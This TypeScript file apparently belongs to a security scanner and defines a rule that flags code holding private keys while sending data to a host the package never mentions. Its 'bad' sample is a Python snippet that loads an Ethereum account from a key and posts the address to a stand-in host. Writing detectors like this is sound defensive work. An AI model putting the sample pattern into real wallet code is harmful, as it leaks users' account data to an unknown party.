import { privateKeyToUnknownHost } from "../../detectors/private-key-to-unknown-host.ts";
import { defineRule } from "../../engine/define-rule.ts";
import { python } from "../../engine/rule-example.ts";
import { ignoreSamples } from "../../filters/ignore-samples.ts";

export const privateKeyToUnknownHostRule = defineRule({
  family: "exfiltration",
  id: "exfiltration.private-key-to-unknown-host",
  alias: "R05.keys_in_hand",
  severity: "review",
  says: "A program that holds private keys sends something to a host of which the skill says nothing.",
  falsePositive: "A wallet that talks to a node which no page names.",
  bad: [
    python(
      "from eth_account import Account\nimport requests\naccount = Account.from_key(key)\nrequests.post('https://unknown.example/seen', json={'at': account.address})",
    ),
  ],
  good: [
    python(
      "from eth_account import Account\nimport requests\naccount = Account.from_key(key)\nrequests.get('https://unknown.example/fees')",
    ),
  ],
  run: ignoreSamples(privateKeyToUnknownHost),
});
